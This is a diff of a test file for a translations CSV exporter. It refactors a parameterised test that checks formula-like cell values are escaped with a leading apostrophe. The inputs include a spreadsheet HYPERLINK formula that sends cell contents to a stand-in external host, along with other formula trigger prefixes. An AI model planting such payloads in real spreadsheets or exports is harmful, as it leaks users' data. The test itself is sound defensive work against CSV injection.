@@ -50,14 +50,12 @@ describe('translations as a table', () => {
     );
   });
 
-  it.each(['=HYPERLINK("https://e.com/?"&A1)', '+1', '-1', '@sum', '\t=1'])(
-    'are no formula for the spreadsheet of a translator: %j',
-    (text) => {
-      const csv = translationsCsv([{ template: 'receipt', translations: { en: { thanks: text } } }]);
-      const read = csvLines(csv.slice(1), ',');
-      expect(typeof read === 'number' ? read : read[1]?.cells.at(-1)).toBe(`'${text}`);
-    },
-  );
+  const formulas = ['=HYPERLINK("https://e.com/?"&A1)', '+1', '-1', '@sum', '\t=1'];
+  it.each(formulas)('are no formula for the spreadsheet of a translator: %j', (text) => {
+    const csv = translationsCsv([{ template: 'receipt', translations: { en: { thanks: text } } }]);
+    const read = csvLines(csv.slice(1), ',');
+    expect(typeof read === 'number' ? read : read[1]?.cells.at(-1)).toBe(`'${text}`);
+  });
 
   it('are read as a spreadsheet writes them that separates by semicolons', () => {
     const rows = rowsIn('template;key;form;de\nreceipt;thanks;;"Danke; bis bald"\n', 'receipt');
